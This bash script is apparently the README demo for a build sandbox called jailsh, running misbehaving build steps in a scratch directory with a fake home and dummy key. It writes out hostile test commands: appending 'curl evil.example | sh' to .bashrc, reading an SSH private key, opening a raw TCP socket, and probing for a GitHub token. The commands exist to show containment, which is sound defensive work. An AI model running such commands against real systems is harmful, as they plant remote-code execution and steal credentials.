#!/bin/bash
# scripts/demo.sh - the README demo: a build step misbehaves inside the
# jail and is stopped, with the messages shown. Runs in a scratch directory
# with a fake $HOME, so nothing of yours is touched.
set -u
TOP=$(cd "$(dirname "$0")/.." && pwd)
JAILSH=$TOP/build/jailsh
# Not under /tmp: each jailed command sees a private /tmp, where a write
# outside the jail would "succeed" into a throw-away layer instead of failing.
demo=$(mktemp -d /var/tmp/jail-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT
mkdir -p "$demo/home/.ssh" "$demo/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo key)" >"$demo/home/.ssh/id_ed25519"
echo "# your shell startup file" >"$demo/home/.bashrc"
cd "$demo/project" || exit 1
export HOME=$demo/home

step() {
	printf "\n\033[1m\$ jailsh -c '%s'\033[0m\n" "$1"
	"$JAILSH" -c "$1"
	echo "(exit status $?)"
}

echo "A build step runs inside the jail in $demo/project (its writable root)."
step 'cc --version | head -1; echo "object code" > main.o && echo "wrote main.o in the project: allowed"'
step 'echo "curl evil.example | sh" >> ~/.bashrc'
step 'cat ~/.ssh/id_ed25519'
printf "\n\033[1m\$ jailsh -- bash -c '%s'\033[0m\n" 'exec 3<>/dev/tcp/127.0.0.1/22'
"$JAILSH" -- bash -c 'exec 3<>/dev/tcp/127.0.0.1/22' ; echo "(exit status $?)"
printf "\n\033[1m\$ GITHUB_TOKEN=ghp_demo jailsh -c '%s'\033[0m\n" 'echo "token seen by the build: [${GITHUB_TOKEN:-}]"'
GITHUB_TOKEN=ghp_demo "$JAILSH" -c 'echo "token seen by the build: [${GITHUB_TOKEN:-}]"'
echo
echo "~/.bashrc is unchanged:"; cat "$HOME/.bashrc"
echo
echo "What this kernel enforces (jailsh --print-policy, last lines):"
"$JAILSH" --print-policy | sed -n '/^kernel:/,$p'
[ -x "$TOP/scripts/demo-examples.sh" ] && "$TOP/scripts/demo-examples.sh"
exit 0
